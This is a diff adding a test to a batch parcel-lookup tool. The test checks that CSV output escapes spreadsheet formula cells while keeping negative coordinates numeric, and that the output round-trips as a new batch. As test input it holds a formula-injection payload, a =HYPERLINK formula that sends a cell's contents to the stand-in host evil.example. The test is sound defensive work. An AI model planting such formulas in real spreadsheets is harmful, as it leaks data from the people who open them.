@@ -106,6 +106,33 @@ describe('runBatchFile', () => {
     expect(JSON.parse(info.stdout).features).toHaveLength(3);
   });
 
+  it('writes a CSV no spreadsheet runs as formulas: the user\'s =, +, @ cells get a leading quote, negative coordinates stay numbers, and the result reads back as a batch', async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+    const input = writeInput('formulas.csv', [
+      'Latitud,Longitud,nota,otra',
+      `41.06001846893712,-4.470268457843249,"${hyperlink.replaceAll('"', '""')}",@SUM(1)`,
+      `41.06001846893712,-4.470268457843249,+1+1,-2+3`,
+    ].join('\n'));
+    const output = path.join(dir, 'formulas.out.csv');
+    const outcome = await runBatchFile({ input, output, find });
+    expect(outcome.counts).toMatchObject({ total: 2, found: 2 });
+
+    const text = readFileSync(output, 'utf8');
+    const rows = parse(text, { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => [r.in_nota, r.in_otra])).toEqual([[`'${hyperlink}`, "'@SUM(1)"], ["'+1+1", "'-2+3"]]);
+    expect(rows.map((r) => [r.in_Latitud, r.in_Longitud])).toEqual([['41.06001846893712', '-4.470268457843249'], ['41.06001846893712', '-4.470268457843249']]);
+    // The parcel's centroid, a number, is written as one too (its longitude is negative).
+    expect(Number(rows[0].longitud)).toBeLessThan(0);
+    // No cell of the file, quoted or not, begins with a formula character once parsed.
+    const cells = (parse(text) as string[][]).flat();
+    expect(cells.filter((cell) => /^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && Number.isNaN(Number(cell))))).toEqual([]);
+
+    // Round trip: the result, fed back as a batch naming its coordinate columns, finds the same parcels.
+    const again = await runBatchFile({ input: output, output: path.join(dir, 'formulas.again.csv'), columns: { latitude: 'in_Latitud', longitude: 'in_Longitud' }, find });
+    expect(again.counts).toMatchObject({ total: 2, found: 2 });
+    expect(again.results.map((r) => r.parcel?.refCatastral)).toEqual(outcome.results.map((r) => r.parcel?.refCatastral));
+  });
+
   it('resumes an interrupted batch without asking answered rows again, and asks rows that failed with the source down', async () => {
     const input = writeInput('resume.csv', `ref\n${SAMPLE_A}\n${LIVE_FINCA}\n${SAMPLE_B}\n${UNKNOWN}\n`);
     const output = path.join(dir, 'resume.geojson');
